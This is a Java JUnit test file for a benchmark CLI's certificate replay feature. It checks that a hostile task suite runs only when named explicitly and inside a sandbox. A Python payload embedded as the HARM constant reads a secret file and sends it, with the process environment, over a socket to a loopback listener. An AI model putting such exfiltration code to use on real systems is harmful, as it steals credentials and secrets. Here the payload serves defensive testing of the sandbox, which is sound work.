package dev.kbx.cli;

import static org.assertj.core.api.Assertions.assertThat;

import dev.kbx.app.Home;
import dev.kbx.certify.SigningKey;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** A certificate with a suite beside it whose task file does harm: anybody can sign one. */
class HostileCertificateTest {
  /** Steals the secret, by a file and by the network, and is an honest task otherwise. */
  private static final String HARM =
      """
      import os
      import socket

      try:
          with open("MARKER", "a") as marker:
              marker.write("here")
      except OSError:
          pass
      try:
          with open("SECRET") as secret:
              stolen = secret.read()
      except OSError:
          stolen = "nothing"
      try:
          with socket.create_connection(("127.0.0.1", PORT), timeout=5) as out:
              out.sendall((stolen + " " + str(os.environ)).encode())
      except OSError:
          pass

      """;

  private final List<String> received = new CopyOnWriteArrayList<>();

  @TempDir private Path folder;
  private ServerSocket server;
  private Path suite;
  private Path tasks;

  @BeforeEach
  void writeSuite() throws Exception {
    server = new ServerSocket(0, 10, InetAddress.getLoopbackAddress());
    Thread.startVirtualThread(this::receive);
    suite = folder.resolve("suite");
    tasks = Files.createDirectories(suite.resolve("Activation"));
    String task = Files.readString(Path.of("tasks/kernelbenchx/Activation/tanh.py"));
    String harm =
        HARM.replace("MARKER", marker().toString())
            .replace("SECRET", secret().toString())
            .replace("PORT", String.valueOf(server.getLocalPort()));
    Files.writeString(tasks.resolve("tanh.py"), task.replaceFirst("(?m)^import", harm + "import"));
    Files.copy(Path.of("tasks/kernelbenchx/Activation/kernels/tanh.py"), folder.resolve("tanh.py"));
  }

  @AfterEach
  void stop() throws IOException {
    server.close();
  }

  private void receive() {
    while (true) {
      try (Socket thief = server.accept()) {
        byte[] said = thief.getInputStream().readAllBytes();
        received.add(new String(said, StandardCharsets.UTF_8));
      } catch (IOException e) {
        return;
      }
    }
  }

  private Path marker() {
    return folder.resolve("marker");
  }

  private static Path secret() {
    Home.here().secret();
    return Home.here().stateFolders().getFirst().resolve("secret");
  }

  private String certificate() throws Exception {
    Path key = Files.writeString(folder.resolve("key.pem"), SigningKey.generate());
    Path out = folder.resolve("out");
    Kbx.Result judged =
        Kbx.here(
            "eval",
            folder.resolve("tanh.py"),
            "--suite",
            suite,
            "--device",
            "cpu",
            "--jobs",
            1,
            "--out",
            out);
    assertThat(judged.exit()).as(judged.err()).isZero();
    // The signer's own machine runs it: that is what the sandbox is to prevent elsewhere.
    assertThat(marker()).exists();
    assertThat(received).anyMatch(text -> text.startsWith(Home.here().secret()));
    Files.delete(marker());
    received.clear();
    Kbx.Result signed = Kbx.here("certify", "--out", out, "--key", key, "--json");
    assertThat(signed.exit()).as(signed.err()).isZero();
    return signed.json().get("file").asString();
  }

  private void nothingHappened() {
    assertThat(marker()).doesNotExist();
    assertThat(received).isEmpty();
  }

  @Test
  void suiteOfACertificateRunsOnlyIfNamedAndIsSandboxed() throws Exception {
    String file = certificate();
    Kbx.Result refused =
        Kbx.run(
            Kbx.home(), "certify", "--check", file, "--replay", 1, "--device", "cpu", "--jobs", 1);
    nothingHappened();
    assertThat(refused.exit()).isEqualTo(ExitCode.USAGE);
    assertThat(refused.err())
        .contains("is not a suite of this kbx", "--suite DIR")
        .doesNotContain("\tat ");
    assertThat(refused.err().lines()).hasSize(1);

    Kbx.Result replayed =
        Kbx.run(
            Kbx.home(),
            "certify",
            "--check",
            file,
            "--replay",
            1,
            "--device",
            "cpu",
            "--jobs",
            1,
            "--suite",
            suite);
    nothingHappened();
    assertThat(replayed.out()).as(replayed.err()).contains("1 of 1 verdicts agree");
    assertThat(replayed.exit()).isZero();
    assertThat(tasks)
        .isDirectoryContaining("glob:**/tanh.py")
        .isDirectoryNotContaining("glob:**/[!t]*");
  }

  @Test
  void folderOfKbxItselfIsRefusedAsSuite() throws Exception {
    String file = certificate();
    for (Path named : List.of(Kbx.home(), Path.of("/"), folder.resolve("nowhere"))) {
      Kbx.Result refused =
          Kbx.here("certify", "--check", file, "--replay", 1, "--suite", named, "--device", "cpu");
      assertThat(refused.exit()).as(refused.out()).isEqualTo(ExitCode.USAGE);
      assertThat(refused.err()).startsWith("kbx: --suite " + named + ": ");
      assertThat(refused.err().lines()).hasSize(1);
    }
    nothingHappened();
    assertThat(Kbx.here("certify", "--check", file, "--suite", folder).err())
        .contains("--suite: is for --replay");
  }

  @Test
  void folderNamedLikeABundledSuiteIsNotTrusted() throws Exception {
    Path named = folder.resolve("kernelbenchx");
    Files.move(suite, named);
    suite = named;
    String file = certificate();
    Kbx.Result replayed =
        Kbx.run(
            Kbx.home(), "certify", "--check", file, "--replay", 1, "--device", "cpu", "--jobs", 1);
    nothingHappened();
    assertThat(replayed.out()).contains("its task differs here");
  }
}
